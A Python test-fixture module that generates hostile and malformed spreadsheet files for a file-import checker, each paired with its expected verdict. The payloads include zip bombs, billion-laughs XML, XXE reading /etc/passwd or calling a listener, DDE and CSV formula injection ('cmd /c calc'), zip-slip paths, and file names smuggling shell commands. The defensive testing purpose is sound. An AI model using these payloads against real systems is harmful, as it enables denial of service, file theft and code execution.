"""Files that would harm who reads them, made on the spot and small on disk."""

import io
import os
import socket
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from struct import pack

from msoffcrypto.format.ooxml import OOXMLFile

from make_files import write_csv, write_ods, write_xlsx

HEADER = ["Vardas, pavardė", "Mokykla", "Savivaldybė", "Programa", "Baigimo data", "Valandos"]
ONA = ["Ona Onaitė", "Utenos gimnazija", "Utenos r. sav.", "Raštingumas", "2024-03-01", "8"]
JONAS = ["Jonas Jonaitis", "Utenos gimnazija", "Utenos r. sav.", "Raštingumas", "2024-03-02", "6"]
TABLE = [HEADER, ONA, JONAS]

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
WORKBOOK = "xl/workbook.xml"
MEGABYTE = b" " * (1 << 20)
ROOTS = {SHEET: b"worksheet", "content.xml": b"office:document-content"}
GIGABYTE = 1200  # megabytes: more than may be unpacked
OLE_MARK = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)

Writer = Callable[[Path, str], object]


@dataclass(frozen=True)
class Kind:
    """A hostile or broken file: its name, what makes it, and the verdict and rules that it must get.

    `write(path, address)` makes it; `address` is that of a listener to whom no file may make a reader talk.
    `rules` are those of grave findings, in any order; information is not looked at.
    """

    name: str
    write: Writer
    verdict: str
    rules: tuple[str, ...] = ()


# Packages


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def good_xlsx(path: Path) -> dict[str, bytes]:
    """The parts of a workbook with nothing wrong in it."""
    return parts_of(write_xlsx(path, {"S": TABLE}).read_bytes())


def good_ods(path: Path) -> dict[str, bytes]:
    return parts_of(write_ods(path, {"S": TABLE}).read_bytes())


def changed(part: str, before: bytes, after: bytes, whole: Callable[[Path], dict[str, bytes]] = good_xlsx) -> Writer:
    """A writer of a good workbook with the first `before` in a part replaced."""

    def write(path: Path, _: str) -> None:
        parts = whole(path)
        assert before in parts[part], part
        path.write_bytes(packed(parts | {part: parts[part].replace(before, after, 1)}))

    return write


def with_parts(more: Mapping[str, bytes]) -> Writer:
    def write(path: Path, _: str) -> None:
        path.write_bytes(packed(good_xlsx(path) | dict(more)))

    return write


@dataclass(frozen=True)
class Packed:
    """Deflated data with the size and the checksum that are claimed for what it unpacks to."""

    data: bytes
    claimed: int
    checksum: int = 0


def repeated_deflate(chunk: bytes, times: int) -> bytes:
    """The deflated form of a chunk repeated, without ever holding it: each block forgets the one before."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * times + packer.flush()


def zip_by_hand(entries: Mapping[str, Packed], flags: int = 0) -> bytes:
    """A zip of what is packed already, with the sizes that are claimed for it."""
    body, directory = b"", b""
    for name, part in entries.items():
        # version, flags, method, time and day, checksum, sizes, lengths of name and extra
        fields = pack("<HHHIIIIHH", 20, flags, 8, 0, part.checksum, len(part.data), part.claimed, len(name), 0)
        directory += b"PK\1\2" + pack("<H", 20) + fields + bytes(10) + pack("<I", len(body)) + name.encode("ascii")
        body += b"PK\3\4" + fields + name.encode("ascii") + part.data
    end = pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + b"PK\5\6" + end


def with_bomb(parts: Mapping[str, bytes], bomb: str, megabytes: int = GIGABYTE, claimed: int = 5000) -> bytes:
    """A package of which one part unpacks to so many megabytes, and says that it is small."""
    return zip_by_hand(packed_parts(parts) | {bomb: Packed(repeated_deflate(MEGABYTE, megabytes), claimed)})


def packed_parts(parts: Mapping[str, bytes]) -> dict[str, Packed]:
    return {name: Packed(repeated_deflate(data, 1), len(data), zlib.crc32(data)) for name, data in parts.items()}


def liar(path: Path, _: str) -> None:
    path.write_bytes(with_bomb(good_xlsx(path), SHEET))


def liar_ods(path: Path, _: str) -> None:
    path.write_bytes(with_bomb(good_ods(path), "content.xml"))


def liar_strings(path: Path, _: str) -> None:
    path.write_bytes(with_bomb(good_xlsx(path), STRINGS))


def honest_bomb(path: Path, _: str) -> None:
    path.write_bytes(with_bomb(good_xlsx(path), "xl/bomb.xml", 110, 110 << 20))


def overlapping(path: Path, _: str) -> None:
    """Many names in the directory for one and the same packed data."""
    data = bytearray(packed(good_xlsx(path)))
    start = int.from_bytes(data[-6:-2], "little")
    size = int.from_bytes(data[-10:-6], "little")
    count = int.from_bytes(data[-12:-10], "little") * 2
    directory = bytes(data[start : start + size])
    end = b"PK\5\6" + bytes(4) + count.to_bytes(2, "little") * 2 + (2 * size).to_bytes(4, "little")
    path.write_bytes(bytes(data[:start]) + directory * 2 + end + start.to_bytes(4, "little") + bytes(2))


def one_string_everywhere(path: Path, _: str) -> None:
    """A shared text of 8 MB that 20,000 cells refer to: 160 GB for a reader that copies it."""
    parts = good_xlsx(path)
    rows = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(1, 20_001))
    parts[SHEET] = sheet_xml(rows)
    parts[STRINGS] = strings_xml("x" * (8 << 20))
    path.write_bytes(packed(parts))


def sheet_xml(rows: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def strings_xml(*texts: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<sst xmlns="{main}">{"".join(f"<si><t>{text}</t></si>" for text in texts)}</sst>'.encode()


def rows_xml(rows: str) -> Writer:
    def write(path: Path, _: str) -> None:
        path.write_bytes(packed(good_xlsx(path) | {SHEET: sheet_xml(rows)}))

    return write


def repeated_cells(path: Path, _: str) -> None:
    cell = '<table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"/>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    write_ods(path, {}, raw=f'<table:table table:name="T">{row}</table:table>')


def corner_ods(path: Path, _: str) -> None:
    filler = '<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row>'
    far = '<table:table-cell table:number-columns-repeated="16383"/><table:table-cell office:value-type="string">'
    row = f"<table:table-row>{far}<text:p>x</text:p></table:table-cell></table:table-row>"
    write_ods(path, {}, raw=f'<table:table table:name="T">{filler}{row}</table:table>')


def nested_elements(path: Path, _: str) -> None:
    parts = good_ods(path)
    deep = b'<x table:number-rows-spanned="2">' + b"<x>" * 1_000_000 + b"</x>" * 1_000_001
    content = parts["content.xml"].replace(b"</office:spreadsheet>", deep + b"</office:spreadsheet>")
    path.write_bytes(packed(parts | {"content.xml": content}))


def asks_the_net(part: str, declaration: str, whole: Callable[[Path], dict[str, bytes]] = good_xlsx) -> Writer:
    """XML whose declaration names what must not be fetched; ADDRESS in it becomes the listener's."""

    def write(path: Path, address: str) -> None:
        parts = whole(path)
        head, _, tail = parts[part].partition(b"?>")
        doctype = declaration.replace("ADDRESS", address).encode()
        path.write_bytes(packed(parts | {part: head + b"?>" + doctype + tail}))

    return write


def late_laughs(part: str, whole: Callable[[Path], dict[str, bytes]]) -> Writer:
    """Entities declared so far down that a look at the head does not see them, and one of them in use."""

    def write(path: Path, _: str) -> None:
        parts = whole(path)
        head, _, tail = parts[part].partition(b"<" + ROOTS[part])
        text = b"<" + ROOTS[part] + tail.replace(b"2024-03-02", b"&j;").replace(b'repeated="1"', b'rows-spanned="2"')
        path.write_bytes(packed(parts | {part: head + b"<!--" + b"x" * 5000 + b"-->" + LAUGHS + text}))

    return write


def linked(path: Path, address: str) -> None:
    """Links to other workbooks by file and net, DDE, a picture by address and a formula that asks the net."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = good_xlsx(path)
    for number, target in enumerate((f"http://{address}/a.xlsx", "file:///etc/passwd", "../../../../etc/passwd"), 1):
        parts[f"xl/externalLinks/externalLink{number}.xml"] = (
            f'<externalLink xmlns="{main}" xmlns:r="{office}"><externalBook r:id="rId1"/>'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ).encode()
        parts[f"xl/externalLinks/_rels/externalLink{number}.xml.rels"] = (
            f'<Relationships xmlns="{rels}"><Relationship Id="rId1" Type="{office}/externalLinkPath"'
            f' Target="{target}" TargetMode="External"/></Relationships>'
        ).encode()
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        f'<Relationships xmlns="{rels}"><Relationship Id="rId9" Type="{office}/image"'
        f' Target="http://{address}/p.png" TargetMode="External"/></Relationships>'
    ).encode()
    formula = f'<c r="H2" t="str"><f>WEBSERVICE("http://{address}/")</f><v>x</v></c></row><row r="3"'.encode()
    parts[SHEET] = parts[SHEET].replace(b'</row><row r="3"', formula, 1)
    path.write_bytes(packed(parts))


def linked_ods(path: Path, address: str) -> None:
    parts = good_ods(path)
    source = f'<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://{address}/a.ods"/>'
    opening = b'<table:table table:name="S">'
    content = parts["content.xml"].replace(opening, opening + source.encode())
    path.write_bytes(packed(parts | {"content.xml": content}))


# Locked, cut, mistaken


def locked(path: Path, _: str) -> None:
    plain = io.BytesIO(packed(good_xlsx(path)))
    with path.open("wb") as file:
        OOXMLFile(plain).encrypt("slaptas", file)


def locked_parts(path: Path, _: str) -> None:
    path.write_bytes(zip_by_hand(packed_parts(good_xlsx(path)), flags=1))


def locked_ods(path: Path, _: str) -> None:
    """As LibreOffice saves it: the manifest says how the parts are locked, and they are noise."""
    parts = good_ods(path)
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="/"'
        b' manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="4000">'
        b'<manifest:encryption-data manifest:checksum="x"><manifest:algorithm manifest:algorithm-name="aes256-cbc"/>'
        b"</manifest:encryption-data></manifest:file-entry></manifest:manifest>"
    )
    noise = bytes((number * number * 7 + number // 3) % 256 for number in range(4000))
    path.write_bytes(packed(parts | {"content.xml": noise, "META-INF/manifest.xml": manifest}))


def cut(share: float, whole: Callable[[Path], dict[str, bytes]] = good_xlsx) -> Writer:
    def write(path: Path, _: str) -> None:
        data = packed(whole(path))
        path.write_bytes(data[: int(len(data) * share)])

    return write


def content(data: bytes | str) -> Writer:
    return lambda path, _: path.write_bytes(data.encode() if isinstance(data, str) else data)


def good(path: Path, _: str = "") -> None:
    """A file with nothing wrong in it, in the kind that its name says; text where it says none."""
    if path.name.endswith((".xlsx", ".xlsm")):
        write_xlsx(path, {"S": TABLE})
    elif path.name.endswith(".ods"):
        write_ods(path, {"S": TABLE})
    else:
        write_csv(path, TABLE)


def renamed(write: Callable[[Path], object], suffix: str) -> Writer:
    """What `write` makes under its own suffix, under this name."""

    def made(path: Path, _: str) -> None:
        source = path.with_name(f"source{suffix}")
        write(source)
        source.rename(path)

    return made


def docx(path: Path, _: str) -> None:
    path.write_bytes(packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}))


# What is no file


def fifo(path: Path, _: str) -> None:
    os.mkfifo(path)


def unix_socket(path: Path, _: str) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(path.parent)  # the address of a socket has 108 bytes at most
        try:
            made.bind(path.name)
        finally:
            os.chdir(here)


def link_to(target: str) -> Writer:
    return lambda path, _: path.symlink_to(target)


# Texts that cost a reader much


def lines(text: str, times: int) -> Writer:
    head = ";".join(HEADER)
    return lambda path, _: path.write_text(f"{head}\n{text * times}\n", "utf-8")


def formulas(path: Path, _: str) -> None:
    starts = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x")', "=1;2")
    write_csv(path, [HEADER, *([*ONA[:3], start, *ONA[4:]] for start in starts)])


def _packages() -> Iterator[Kind]:
    yield Kind("bomb.xlsx", honest_bomb, "refused", ("PD-003",))
    yield Kind("bomb-that-lies.xlsx", liar, "refused", ("PD-003",))
    yield Kind("bomb-of-strings.xlsx", liar_strings, "refused", ("PD-003",))
    yield Kind("bomb.ods", liar_ods, "refused", ("PD-003",))
    yield Kind("bomb-overlapping.xlsx", overlapping, "refused", ("PD-003",))
    yield Kind("many-parts.xlsx", with_parts({f"p{n}": b"" for n in range(20_001)}), "refused", ("PD-003",))
    yield Kind("one-string.xlsx", one_string_everywhere, "refused", ("PD-003",))
    yield Kind("one-string-named.xls", one_string_everywhere, "refused", ("PD-003",))
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield Kind("corner.xlsx", rows_xml(far), "refused", ("PD-003",))
    # letters beyond the last column were not taken for a place, and the reader filled two gigabytes
    beyond = far.replace("XFD1048576", "ZZZZ99")
    yield Kind("beyond.xlsx", rows_xml(beyond), "refused", ("PD-003",))
    yield Kind("corner.ods", corner_ods, "refused", ("PD-003",))
    yield Kind("repeated.ods", repeated_cells, "refused", ("PD-003",))
    yield Kind("corner.csv", content(";" * 17_000 + "x\n"), "refused", ("PD-003",))
    yield Kind("laughs.xlsx", changed(SHEET, b"<worksheet", LAUGHS + b"<worksheet"), "refused", ("PD-001",))
    yield Kind("laughs-workbook.xlsx", changed(WORKBOOK, b"<workbook", LAUGHS + b"<workbook"), "refused", ("PD-001",))
    office = b"<office:document-content"
    yield Kind("laughs.ods", changed("content.xml", office, LAUGHS + office, good_ods), "refused", ("PD-001",))
    file, net = (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{at}">]>' for at in ("file:///etc/passwd", "http://ADDRESS/a"))
    yield Kind("theft-by-file.xlsx", asks_the_net(SHEET, file), "refused", ("PD-001",))
    yield Kind("theft-by-net.xlsx", asks_the_net(SHEET, net), "refused", ("PD-001",))
    yield Kind("theft-by-net.ods", asks_the_net("content.xml", net, good_ods), "refused", ("PD-001",))
    dtd = '<!DOCTYPE x SYSTEM "http://ADDRESS/x.dtd">'
    yield Kind("dtd-by-net.xlsx", asks_the_net(WORKBOOK, dtd), "refused", ("PD-001",))
    yield Kind("dtd-by-net.ods", asks_the_net("content.xml", dtd, good_ods), "accepted")
    late = f"<!--{'x' * 5000}-->"
    yield Kind("late-entity.xlsx", asks_the_net(SHEET, late + net), "accepted")
    yield Kind("late-entity.ods", asks_the_net("content.xml", late + net, good_ods), "accepted")
    yield Kind("late-laughs.xlsx", late_laughs(SHEET, good_xlsx), "refused", ("PD-001",))
    yield Kind("late-laughs.ods", late_laughs("content.xml", good_ods), "refused", ("PD-001",))
    yield Kind("nested.ods", nested_elements, "accepted")
    yield Kind("linked.xlsx", linked, "accepted")
    yield Kind("linked.ods", linked_ods, "accepted")
    yield Kind("macro.xlsm", with_parts({"xl/vbaProject.bin": OLE_MARK + b"Auto_Open" * 500}), "accepted")
    slip = {"../../../../tmp/slip": b"x", "/etc/cron.d/slip": b"x", "xl/../../slip.xml": b"<x/>", "..\\slip": b"x"}
    yield Kind("slip.xlsx", with_parts(slip), "accepted")


def _broken() -> Iterator[Kind]:
    yield Kind("locked.xlsx", locked, "refused", ("PD-002",))
    yield Kind("locked-named.xls", locked, "refused", ("PD-002",))
    yield Kind("locked-parts.xlsx", locked_parts, "refused", ("PD-002",))
    yield Kind("locked.ods", locked_ods, "refused", ("PD-002",))
    for share in (0.1, 0.5, 0.99):
        yield Kind(f"cut-{share}.xlsx", cut(share), "refused", ("PD-001",))
        yield Kind(f"cut-{share}.ods", cut(share, good_ods), "refused", ("PD-001",))
    yield Kind("only-a-mark.xls", content(OLE_MARK), "refused", ("PD-001",))
    yield Kind("marks-and-noise.xls", content(OLE_MARK + bytes(range(256)) * 40), "refused", ("PD-001",))
    yield Kind("no-workbook.xlsx", docx, "refused", ("PD-001",))
    page = "<html><body><table><tr><td>Vardas</td><td>1</td></tr></table></body></html>"
    yield Kind("page.xls", content(page), "refused", ("PD-001",))
    yield Kind("archive.xls", content("MIME-Version: 1.0\nContent-Type: multipart/related\n"), "refused", ("PD-001",))
    yield Kind("xml.xls", content("<?xml version='1.0'?><Workbook xmlns='urn:x'/>"), "refused", ("PD-001",))
    yield Kind("text.xls", renamed(good, ".csv"), "accepted")
    yield Kind("workbook.xls", renamed(good, ".xlsx"), "accepted")
    yield Kind("workbook.csv", renamed(good, ".ods"), "accepted")
    yield Kind("paper.xlsx", content("%PDF-1.7\n%abc"), "refused", ("PD-001",))
    yield Kind("picture.xlsx", content(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0"), "refused", ("PD-001",))
    yield Kind("program.xlsx", content(b"\x7fELF\2\1\1\0" + bytes(100)), "refused", ("PD-001",))
    yield Kind("empty.xlsx", content(b""), "refused", ("PD-001",))
    yield Kind("mark-only.csv", content(b"\xef\xbb\xbf"), "refused", ("PD-005",))
    yield Kind("spaces.csv", content(" \n" * 100), "refused", ("PD-005",))
    yield Kind("zeros.csv", content(bytes(10_000)), "refused", ("PD-001",))


def _texts() -> Iterator[Kind]:
    yield Kind("formulas.csv", formulas, "accepted")
    row = ";".join(ONA)
    yield Kind("quotes.csv", lines(row.replace("Ona ", '"Ona ') + "\n", 50_000), "accepted")
    yield Kind("one-line.csv", content("a;" * 8_000 + "b" * (20 << 20)), "refused", ("PD-005",))
    yield Kind("brackets.csv", lines(row.replace("Utenos r. sav.", "(" * 32_767) + "\n", 20), "questions", ("PD-109",))


def _names() -> Iterator[Kind]:
    names = (
        "new\nline.csv",
        "return\r.csv",
        "\x1b[2Jescape.csv",
        "\u202evsc.csv",
        os.fsdecode(b"s\xe0ra\xf0as.csv"),
        "x" * 251 + ".csv",
        "%s%n.csv",
        "$(touch harm).csv",
        "; touch harm;.csv",
        "<script>alert(1)</script>.csv".replace("/", "\u2215"),
        "CON.csv",
        "..csv",
        " .csv",
    )
    for name in names:
        yield Kind(name, good, "accepted")


def _no_files() -> Iterator[Kind]:
    gone = Kind("", good, "refused", ("PD-001",))
    yield replace(gone, name="folder.xlsx", write=lambda path, _: path.mkdir())
    yield replace(gone, name="fifo.xlsx", write=fifo)
    yield replace(gone, name="socket.xlsx", write=unix_socket)
    yield replace(gone, name="device.xlsx", write=link_to("/dev/zero"))
    yield replace(gone, name="broken-link.xlsx", write=link_to("nothing.xlsx"))
    yield replace(gone, name="loop.xlsx", write=link_to("loop.xlsx"))


KINDS = (*_packages(), *_broken(), *_texts(), *_names(), *_no_files())
